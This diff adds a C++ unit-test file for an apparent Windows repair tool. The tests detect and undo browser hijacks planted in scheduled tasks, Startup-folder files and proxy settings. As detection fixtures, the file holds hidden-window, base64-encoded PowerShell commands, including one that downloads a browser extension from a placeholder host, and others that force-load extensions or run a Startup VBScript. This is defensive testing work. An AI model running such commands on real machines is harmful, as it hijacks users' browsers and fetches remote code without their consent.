@@ -1,0 +1,219 @@
+#include <gtest/gtest.h>
+
+#include "repair/startup/EncodedCommand.h"
+#include "repair/startup/ScheduledTaskEntries.h"
+#include "repair/startup/ServedHijacks.h"
+#include "repair/startup/StartupCommand.h"
+#include "repair/startup/StartupFolderEntries.h"
+#include "tests/native/RepairFixture.h"
+#include "text/Utf16.h"
+
+namespace tovask::test {
+namespace {
+
+// What PowerShell's -EncodedCommand carries for the script.
+std::wstring encoded(std::wstring_view script) {
+    constexpr std::string_view kDigits =
+        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    const auto bytes = toUtf16LeBytes(script);
+    std::wstring text;
+    for (std::size_t at = 0; at < bytes.size(); at += 3) {
+        const auto byte = [&](std::size_t i) {
+            return at + i < bytes.size() ? static_cast<unsigned char>(bytes[at + i]) : 0u;
+        };
+        const auto group = (byte(0) << 16) | (byte(1) << 8) | byte(2);
+        for (std::size_t i = 0; i < 4; ++i) {
+            text += i <= bytes.size() - at ? kDigits[(group >> (18 - 6 * i)) & 63] : L'=';
+        }
+    }
+    return text;
+}
+
+TEST(EncodedCommand, DecodesWhatPowerShellTakesAndNothingElse) {
+    EXPECT_EQ(decodedPowerShellCommand(L"SQBFAFgA"), L"IEX");
+    EXPECT_EQ(decodedPowerShellCommand(encoded(L"Start-Process chrome")), L"Start-Process chrome");
+    for (const auto bad : {L"SQBFAFg", L"SQB$AFgA", L"QQ==", L"", L"S=BFAFgA"}) {
+        EXPECT_EQ(decodedPowerShellCommand(bad), std::nullopt) << testing::PrintToString(bad);
+    }
+}
+
+struct TaskCommandCase {
+    std::string name;
+    std::wstring command;
+    bool hijack;
+
+    friend void PrintTo(const TaskCommandCase& c, std::ostream* out) { *out << c.name; }
+};
+
+class TaskCommands : public testing::TestWithParam<TaskCommandCase> {};
+
+TEST_P(TaskCommands, AreJudgedByWhatTheirScriptDoes) {
+    EXPECT_EQ(taskCommandHijack(GetParam().command).has_value(), GetParam().hijack);
+}
+
+const std::wstring kPowerShell = L"powershell.exe -NoProfile -WindowStyle Hidden -enc ";
+
+// clang-format off
+INSTANTIATE_TEST_SUITE_P(
+    Commands, TaskCommands,
+    testing::Values(
+        TaskCommandCase{"EncodedBrowserWithAddress", kPowerShell + encoded(L"Start-Process msedge.exe https://buscar.example"), true},
+        TaskCommandCase{"EncodedLoadExtension", L"pwsh -e " + encoded(L"& $b --load-extension=$env:LOCALAPPDATA\\ext"), true},
+        TaskCommandCase{"EncodedExtensionDownload", kPowerShell + encoded(L"iwr https://cdn.example/a.crx -OutFile $f"), true},
+        TaskCommandCase{"EncodedHousekeeping", kPowerShell + encoded(L"Remove-Item $env:TEMP\\*.log"), false},
+        TaskCommandCase{"NotDecodable", kPowerShell + L"%%%%", true},
+        TaskCommandCase{"PlainBrowserExtension", LR"("C:\Program Files\Google\Chrome\Application\chrome.exe" --load-extension=C:\ProgramData\x)", true},
+        TaskCommandCase{"SystemMaintenance", LR"(%windir%\system32\rundll32.exe Windows.Storage.ApplicationData.dll,CleanupTemporaryState)", false}),
+    [](const testing::TestParamInfo<TaskCommandCase>& info) { return info.param.name; });
+// clang-format on
+
+TEST(ServedHijacks, AreTheProxysProgramAndTheLoadedExtensionsFolders) {
+    const std::vector<Finding> found{
+        {FindingKind::Network, L"Red", L"HKCU\\...\\ProxyServer",
+         L"127.0.0.1:8080, servido por C:\\Users\\ana\\AppData\\p\\proxy.exe, en una carpeta "
+         L"que el usuario puede modificar",
+         true},
+        {FindingKind::Shortcut, L"Accesos", L"C:\\x.lnk",
+         L"chrome.exe --load-extension=C:\\Users\\ana\\ext,C:\\Otra; abre", true}};
+    const ServedHijacks served(found);
+    EXPECT_TRUE(served.servedBy(L"c:\\users\\ana\\appdata\\p\\PROXY.exe -q"));
+    EXPECT_TRUE(served.servedBy(L"\"C:\\Users\\ana\\ext\\actualiza.exe\""));
+    EXPECT_TRUE(served.servedBy(L"C:\\Otra\\a.exe"));
+    EXPECT_FALSE(served.servedBy(L"C:\\Users\\ana\\extra\\a.exe"));
+    EXPECT_FALSE(served.servedBy(L"\"C:\\Program Files\\Audio\\audio.exe\" /tray"));
+}
+
+TEST(StartupFilePaths, OnlyTaskAndStartupFilesAreInReach) {
+    EXPECT_TRUE(isScheduledTaskFilePath(L"C:\\Windows\\Sysnative\\Tasks\\Carpeta\\Tarea"));
+    EXPECT_TRUE(isScheduledTaskFilePath(L"C:\\WINDOWS\\system32\\Tasks\\Tarea"));
+    EXPECT_FALSE(isScheduledTaskFilePath(L"C:\\WINDOWS\\system32\\Tasks"));
+    EXPECT_FALSE(isScheduledTaskFilePath(L"C:\\Users\\ana\\system32\\Tasks\\x"));
+    EXPECT_TRUE(
+        isStartupFolderFilePath(L"C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Windows\\Start "
+                                L"Menu\\Programs\\Startup\\a.bat"));
+    EXPECT_FALSE(isStartupFolderFilePath(L"C:\\Users\\ana\\Start Menu\\Programs\\a.bat"));
+    EXPECT_FALSE(isStartupFolderFilePath(L"C:\\Start Menu\\Programs\\Startup\\"));
+}
+
+constexpr std::wstring_view kProfiles =
+    L"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProfileList\\";
+const std::wstring kTasks = L"C:\\WINDOWS\\system32\\Tasks";
+const std::wstring kUserStartup =
+    L"C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup";
+const std::wstring kCommonStartup =
+    L"C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp";
+const std::wstring kChrome = L"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
+
+std::string lnk(const std::wstring& target, std::wstring_view arguments) {
+    return fake::fakeShortcutBytes(
+        {target, std::wstring(arguments), L"C:\\", target, 0, 0, 1, L"", L""});
+}
+
+std::string taskBytes(bool enabled, std::wstring_view command, std::wstring_view arguments) {
+    return fake::fakeTaskBytes({enabled,
+                                {{L"C:\\Windows\\system32\\sc.exe", L"start x"},
+                                 {std::wstring(command), std::wstring(arguments)}}});
+}
+
+// A machine with hijacking and harmless tasks and Startup files, Internet
+// Explorer already repaired; the run looks at the start-up programs alone.
+class StartupSources : public testing::Test {
+  protected:
+    void SetUp() override {
+        auto& platform = bench.platform;
+        platform.registry.addKeysEveryWindowsHas();
+        platform.RegWrite(std::wstring(kProfiles) + platform.programUserSid + L"\\ProfileImagePath",
+                          L"C:\\Users\\ana", RegistryType::String);
+        platform.RegWrite(
+            L"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
+            L"User Shell Folders\\Common Startup",
+            kCommonStartup, RegistryType::String);
+        bench.addFiles({
+            {kTasks + L"\\Actualizador", taskBytes(true, kChrome, L"--load-extension=C:\\x")},
+            {kTasks + L"\\Microsoft\\Windows\\Limpieza",
+             taskBytes(true, L"cleanmgr.exe", L"/autoclean")},
+            {kTasks + L"\\Apagada", taskBytes(false, kChrome, L"https://buscar.example")},
+            {kUserStartup + L"\\Noticias.lnk", lnk(kChrome, L"https://noticias.example")},
+            {kUserStartup + L"\\carga.vbs", "CreateObject(\"WScript.Shell\").Run \"x\""},
+            {kUserStartup + L"\\desktop.ini", "[.ShellClassInfo]"},
+            {kCommonStartup + L"\\Audio.lnk", lnk(L"C:\\Audio\\audio.exe", L"/tray")},
+        });
+        bench.press();  // Internet Explorer alone: the window's question is answered no
+        bench.view.notOffered = everyFindingKind();
+        bench.view.notOffered.erase(FindingKind::Startup);
+        bench.view.repairFindings = true;
+        before_ = bench.fileContents();
+    }
+    std::optional<TaskDefinition> task(std::wstring_view name) {
+        const auto read = bench.platform.ReadTaskFile(kTasks + L"\\" + std::wstring(name));
+        return read.ok() ? std::optional(read.value()) : std::nullopt;
+    }
+    std::map<std::wstring, std::string> originals() {
+        auto contents = bench.fileContents();
+        std::erase_if(contents, [](const auto& entry) {
+            return entry.first.find(L"TovaskCopias") != std::wstring::npos;
+        });
+        return contents;
+    }
+
+    RepairBench bench;
+    std::map<std::wstring, std::string> before_;
+};
+
+TEST_F(StartupSources, CheckRepairCheckAndUndo) {
+    ASSERT_EQ(bench.check(), RunOutcome::RepairNeeded);
+    const auto& asked = bench.view.questions.back();
+    EXPECT_EQ(std::ranges::count_if(asked, [](auto& line) { return line.starts_with(L"  "); }), 3)
+        << testing::PrintToString(asked);
+    EXPECT_TRUE(anyLineHas(asked, L"\\Actualizador"));
+    EXPECT_TRUE(anyLineHas(asked, L"Noticias.lnk"));
+    EXPECT_TRUE(anyLineHas(asked, L"carga.vbs"));
+    EXPECT_EQ(std::ranges::count_if(
+                  bench.view.lines,
+                  [](auto& line) { return line.find(L"Noticias.lnk") != std::wstring::npos; }),
+              1)
+        << "a shortcut in Startup is the start-up programs' alone";
+
+    bench.press();
+    EXPECT_TRUE(bench.errorLines().empty()) << testing::PrintToString(bench.view.lines);
+    EXPECT_FALSE(task(L"Actualizador")->enabled);
+    EXPECT_TRUE(task(L"Microsoft\\Windows\\Limpieza")->enabled);
+    EXPECT_FALSE(bench.bytesOf(kUserStartup + L"\\Noticias.lnk"));
+    EXPECT_FALSE(bench.bytesOf(kUserStartup + L"\\carga.vbs"));
+    EXPECT_TRUE(bench.bytesOf(kCommonStartup + L"\\Audio.lnk"));
+
+    bench.view.repairFindings = false;
+    EXPECT_EQ(bench.check(), RunOutcome::Done);
+    bench.undo();
+    EXPECT_EQ(originals(), before_);
+}
+
+TEST_F(StartupSources, UndoLeavesAFileThatTookTheRemovedOnesPlace) {
+    bench.press();
+    bench.platform.files.addFile(kUserStartup + L"\\carga.vbs", "otro");
+    bench.undo();
+    EXPECT_EQ(bench.bytesOf(kUserStartup + L"\\carga.vbs"), "otro");
+    EXPECT_TRUE(reportsFailureOf(bench.view.lines, kUserStartup + L"\\carga.vbs"));
+    EXPECT_TRUE(bench.bytesOf(kUserStartup + L"\\Noticias.lnk"));
+}
+
+TEST_F(StartupSources, AnUnreadableTaskIsAnErrorAndTheRestGoesOn) {
+    bench.platform.files.addFile(kTasks + L"\\Roto", "<Task>");
+    bench.press();
+    EXPECT_TRUE(reportsFailureOf(bench.view.lines, kTasks + L"\\Roto"));
+    EXPECT_FALSE(task(L"Actualizador")->enabled);
+}
+
+TEST_F(StartupSources, AreReportOnlyOnAManagedMachine) {
+    FailureLog failures(bench.platform);
+    for (const auto& task : findHijackingTasks(bench.platform, true, {}, failures)) {
+        EXPECT_FALSE(task.finding.repairable);
+    }
+    for (const auto& file : findStartupFiles(bench.platform, {}, true, {}, failures)) {
+        EXPECT_FALSE(file.finding.repairable);
+    }
+    EXPECT_EQ(findHijackingTasks(bench.platform, true, {}, failures).size(), 1u);
+}
+
+}  // namespace
+}  // namespace tovask::test
